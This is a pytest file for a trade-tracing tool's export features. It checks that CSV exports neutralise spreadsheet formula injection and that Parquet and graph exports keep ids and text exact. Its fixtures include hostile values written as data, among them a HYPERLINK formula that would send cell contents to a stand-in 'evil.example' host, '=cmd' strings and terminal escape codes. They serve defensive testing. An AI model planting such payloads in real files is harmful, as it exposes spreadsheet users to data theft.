"""Exports an analyst hands on: formula-safe CSV, exact Parquet, GraphML/GEXF read back, the CLI."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import igraph
import networkx as nx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.query.conftest import CMD, HOSTILE_NAMES, MAKER, load_case
from tracekit.errors import TracekitError
from tracekit.query import export as export_module
from tracekit.query.export import csv_ready, shipment_batches, shipments_sql

REPO = Path(__file__).resolve().parents[2]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("what", ["entities", "shipments", "mentions"])
def test_no_exported_csv_cell_can_start_a_formula(case_ws, tmp_path, what):
    rows = _cells(case_ws.export(what, tmp_path / f"{what}.csv", progress=False).path)
    cells = [c for row in rows for c in row]
    assert [c for c in cells if c.startswith(FORMULA)] == []
    # the hostile text is still there, made inert, not dropped
    for name in HOSTILE_NAMES:
        assert "'" + name in cells, name
    if what != "mentions":
        assert "'\tTabulada Distribuidora SA" in cells  # a name that starts with a tab


def test_shipment_csv_neutralises_descriptions_and_keeps_evidence_rows(case_ws, tmp_path):
    rows = _cells(case_ws.export("shipments", tmp_path / "s.csv", progress=False).path)
    header, body = rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert header[:3] == ["shipment_id", "source_file", "line"] and len(body) == 12
    assert {r["description"] for r in body} >= {"'=HYPERLINK(\"http://evil.example/\"&A1)", "'@CHEMICAL SAMPLE",
                                                "'+INDUSTRIAL MIXTURE", "1-BOC-4-PIPERIDONE"}
    # physical lines of the source file (a CR inside a quoted address counts as a line break there)
    assert [int(r["line"]) for r in body] == [r[0] for r in case_ws.store.rows("SELECT line FROM shipments ORDER BY 1")]
    assert all(r["source_file"].endswith("case.csv") for r in body)
    first = next(r for r in body if r["line"] == "2")
    assert first["shipper_entity"] == MAKER and first["consignee_name"] == "'" + CMD
    assert "precursor_named" in first["flags"]


def test_csv_ready_quotes_every_formula_prefix_and_joins_lists():
    table = pa.table({"t": ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", None],
                      "n": [1, -1, 2, 3, 4, 5, 6, 7], "l": [["=x", "y"], [], None, ["a"], ["b"], ["c"], ["d"], ["e"]]})
    out = csv_ready(table)
    assert out.column("t").to_pylist() == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", None]
    assert out.column("n").to_pylist()[1] == -1  # numbers are not text: left alone
    assert out.column("l").to_pylist()[:3] == ["'=x; y", "", None]


def test_parquet_keeps_62_bit_ids_exact_and_text_as_written(case_ws, tmp_path):
    store = case_ws.store
    entities = pq.read_table(case_ws.export("entities", tmp_path / "e.parquet", progress=False).path)
    assert entities.schema.field("entity_id").type == pa.int64()
    ids = entities.column("entity_id").to_pylist()
    assert sorted(ids) == sorted(r[0] for r in store.rows("SELECT entity_id FROM entities"))
    assert any(i > 2**53 for i in ids)  # beyond what a float64 holds: a rounding would show
    assert CMD in entities.column("name").to_pylist()  # Parquet is data, not a spreadsheet: no quote added

    shipments = pq.read_table(case_ws.export("shipments", tmp_path / "s.parquet", progress=False).path)
    expected = store.rows("""SELECT s.shipment_id, me.entity_id FROM shipments s
                             LEFT JOIN mention_entities me ON me.mention_id = s.shipment_id * 4 ORDER BY 1""")
    got = list(zip(shipments.column("shipment_id").to_pylist(), shipments.column("shipper_entity_id").to_pylist(),
                   strict=True))
    assert got == expected
    assert shipments.schema.field("flags").type == pa.list_(pa.string())


def test_shipments_stream_in_batches_that_add_up_to_one_export(case_ws, tmp_path, monkeypatch):
    store = case_ws.store
    batches = list(shipment_batches(store, lambda lo, hi: shipments_sql(store, "", lo, hi), batch_rows=5,
                                    progress=False))
    sizes = [b.num_rows for b in batches]  # ranges of 5 lines (the source's physical lines have a gap)
    assert len(sizes) == 3 and max(sizes) <= 5 and sum(sizes) == 12
    ids = [i for b in batches for i in b.column("shipment_id").to_pylist()]
    assert ids == sorted(ids) == [r[0] for r in store.rows("SELECT shipment_id FROM shipments ORDER BY 1")]
    whole = case_ws.export("shipments", tmp_path / "whole.csv", progress=False).path.read_bytes()
    monkeypatch.setattr(export_module, "BATCH_ROWS", 3)
    assert case_ws.export("shipments", tmp_path / "small.csv", progress=False).path.read_bytes() == whole


def test_an_interrupted_export_leaves_no_file(case_ws, tmp_path, monkeypatch):
    def interrupt(self, table):
        raise KeyboardInterrupt

    monkeypatch.setattr(export_module.TableWriter, "write", interrupt)
    with pytest.raises(KeyboardInterrupt):
        case_ws.export("shipments", tmp_path / "s.csv", progress=False)
    assert list(tmp_path.iterdir()) == []


def test_scope_keeps_the_case_companies_and_the_shipments_among_them(case_ws, tmp_path):
    trace = case_ws.trace(MAKER, "down", 1)
    members = {n for n in trace.graph.nodes if isinstance(n, int)}
    assert len(members) == 4  # the maker and its three shells
    entities = pq.read_table(case_ws.export("entities", tmp_path / "e.parquet", scope=trace, progress=False).path)
    assert set(entities.column("entity_id").to_pylist()) == members
    shipments = pq.read_table(case_ws.export("shipments", tmp_path / "s.parquet", scope=trace, progress=False).path)
    assert shipments.num_rows == 3
    assert set(shipments.column("consignee_entity_id").to_pylist()) <= members
    by_name = case_ws.export("entities", tmp_path / "n.csv", scope=[MAKER], progress=False)
    assert by_name.rows == 1


def test_graph_files_read_back_with_networkx_and_igraph_with_the_same_counts(case_ws, tmp_path):
    G = case_ws.graph()
    graphml = case_ws.export("graph", tmp_path / "g.graphml").path
    gexf = case_ws.export("graph", tmp_path / "g.gexf").path
    counts = (G.number_of_nodes(), G.number_of_edges())
    assert counts[1] >= 8
    back = nx.read_graphml(graphml)
    assert (back.number_of_nodes(), back.number_of_edges()) == counts
    ig = igraph.Graph.Read_GraphML(str(graphml))
    assert (ig.vcount(), ig.ecount()) == counts and ig.is_directed()
    gephi = nx.read_gexf(gexf)
    assert (gephi.number_of_nodes(), gephi.number_of_edges()) == counts
    # ids travel as text (readers hold numbers in doubles); hostile labels as written
    assert {int(v["entity_id"]) for v in ig.vs} == set(G.nodes)
    assert CMD in {d.get("label") for _, d in back.nodes(data=True)}
    assert all(isinstance(d["shipments"], int) for *_, d in back.edges(data=True))


def test_graph_export_takes_trade_filters(case_ws, tmp_path):
    done = case_ws.export("graph", tmp_path / "g.graphml", hs="3926")
    assert done.counts == {"nodes": 2, "edges": 1}


@pytest.mark.parametrize(("what", "out", "fmt", "message"), [
    ("graph", "g.csv", None, "graph exports as graphml or gexf"),
    ("ftm", "f.parquet", None, "ftm exports as jsonl"),
    ("entities", "e.txt", "gexf", "entities exports as csv or parquet"),
    ("pictures", "p.png", None, "choose one of"),
])
def test_a_wrong_format_is_refused_with_what_would_work(case_ws, tmp_path, what, out, fmt, message):
    with pytest.raises(TracekitError, match=message):
        case_ws.export(what, tmp_path / out, fmt)


def test_a_folder_or_an_unresolved_workspace_is_refused(case_ws, tmp_path):
    import tracekit

    with pytest.raises(TracekitError, match="it is a folder"):
        case_ws.export("entities", tmp_path)
    with tracekit.Workspace() as empty, pytest.raises(TracekitError, match="nothing resolved yet"):
        empty.export("shipments", tmp_path / "s.csv")


def _cli(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO), "TQDM_DISABLE": "1"}
    return subprocess.run([sys.executable, "-m", "tracekit", "export", *args], capture_output=True, text=True,
                          env=env, timeout=120, cwd=REPO)


@pytest.mark.slow
def test_cli_round_trip_for_every_export(tmp_path):
    load_case(tmp_path).close()
    ws = str(tmp_path / "ws")
    for what, name in [("entities", "e.csv"), ("shipments", "s.parquet")]:  # each process costs seconds
        run = _cli(what, "--workspace", ws, "--out", str(tmp_path / name), "--json")
        assert run.returncode == 0, run.stderr
        assert json.loads(run.stdout)["path"] == str(tmp_path / name)
    assert pq.read_table(tmp_path / "s.parquet").num_rows == 12
    assert "'" + CMD in {c for row in _cells(tmp_path / "e.csv") for c in row}
    case = _cli("ftm", "--workspace", ws, "--out", str(tmp_path / "case.jsonl"), "--entity", MAKER, "--hops", "1",
                "--json")
    assert case.returncode == 0, case.stderr
    counts = json.loads(case.stdout)["counts"]
    assert counts.get("Company", 0) + counts.get("Organization", 0) == 4  # the maker and its three shells
    refused = _cli("shipments", "--workspace", ws, "--out", str(tmp_path / "x.csv"), "--hs", "2933")
    assert refused.returncode == 2 and "--entity" in refused.stderr


def test_graph_files_hold_names_with_characters_xml_forbids(tmp_path):
    from tracekit.query.graph_files import write_gexf, write_graphml

    G = nx.DiGraph()
    G.add_node(3358655674813842945, label="ACME\x1b[31m LTD\x00", kind="company", risk=0)
    G.add_node(7, label="\tTabulada <b>&amp;</b>", kind="company", risk=0.4)
    G.add_edge(3358655674813842945, 7, kind="trade", shipments=2, descriptions=["=cmd\x07"])
    graphml = write_graphml(G, tmp_path / "g.graphml")
    ig = igraph.Graph.Read_GraphML(str(graphml))
    assert sorted(ig.vs["label"]) == sorted(["ACME\\x1b[31m LTD\\x00", "\tTabulada <b>&amp;</b>"])
    assert sorted(ig.vs["entity_id"]) == ["3358655674813842945", "7"] and ig.vs["risk"] == [0.0, 0.4]
    back = nx.read_gexf(write_gexf(G, tmp_path / "g.gexf"))
    assert back.edges["3358655674813842945", "7"]["descriptions"] == "=cmd\\x07"


def test_the_cli_choices_are_the_exports():
    from tracekit.commands.export import FORMATS, WHAT
    from tracekit.query.export import EXPORTS

    assert WHAT == list(EXPORTS)
    assert FORMATS == sorted({f for formats in EXPORTS.values() for f in formats})
